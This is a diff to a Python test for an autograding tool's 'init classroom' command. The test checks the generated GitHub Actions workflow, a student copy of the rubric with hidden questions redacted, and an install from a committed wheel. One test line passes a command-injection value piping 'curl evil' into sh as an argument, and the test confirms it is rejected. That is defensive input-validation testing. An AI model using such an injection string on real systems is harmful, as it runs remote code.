@@ -140,7 +140,11 @@ def test_init_classroom_writes_a_workflow_for_the_rubric(tmp_path, capsys):
     rubric_file.write_text(RUBRIC)
     assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo)]) == 0
     wf = yaml.safe_load((repo / ".github" / "workflows" / "classroom.yml").read_text())
-    assert (repo / ".github" / "mlgrade" / "rubric.yaml").read_text() == RUBRIC  # copied into the repository
+    built = repo / ".github" / "mlgrade"  # the rubric's student build and mlgrade's student wheel
+    assert sorted(p.name for p in built.iterdir()) == ["mlgrade-0.1.0-py3-none-any.whl", "rubric.yaml"]
+    assert yaml.safe_load((built / "rubric.yaml").read_text())["questions"] == [
+        {**q, "checks": [{"kind": "graded_by_instructor"}]} if q.get("hidden") else q
+        for q in yaml.safe_load(RUBRIC)["questions"]]
     job = wf["jobs"]["run-autograding-tests"]
     steps = {s.get("name"): s for s in job["steps"]}
     assert any(s.get("uses", "").startswith("actions/checkout@") for s in job["steps"])
@@ -148,7 +152,9 @@ def test_init_classroom_writes_a_workflow_for_the_rubric(tmp_path, capsys):
     assert setup["with"]["cache"] == "pip"
     assert "bubblewrap" in steps["Install bubblewrap (the sandbox for student code)"]["run"]
     from grader import __version__
-    assert f"mlgrade=={__version__}" in steps[f"Install mlgrade {__version__}"]["run"]
+    install = steps[f"Install mlgrade {__version__} (its student wheel, committed in .github/mlgrade)"]["run"]
+    assert install == "python -m pip install '.github/mlgrade/mlgrade-0.1.0-py3-none-any.whl'"  # never an index
+    assert "mlgrade==" not in (repo / ".github" / "workflows" / "classroom.yml").read_text()
     grade = steps["Grade"]
     assert grade["id"] == "grade" and "mlgrade classroom ." in grade["run"] and ".github/mlgrade/rubric.yaml" in grade["run"]
     reporter = next(s for s in job["steps"] if s.get("uses", "").startswith("classroom-resources/autograding-grading-reporter@"))
@@ -159,6 +165,8 @@ def test_init_classroom_writes_a_workflow_for_the_rubric(tmp_path, capsys):
     assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo)]) == 2
     assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo), "--force",
                  "--install", "mlgrade'; curl evil | sh; '"]) == 2
+    assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo), "--force",
+                 "--python", "three"]) == 2
     assert "on" in yaml.safe_load(workflow_yaml(parse_rubric(RUBRIC), "rubric.yaml", "mlgrade==1"))
 
 
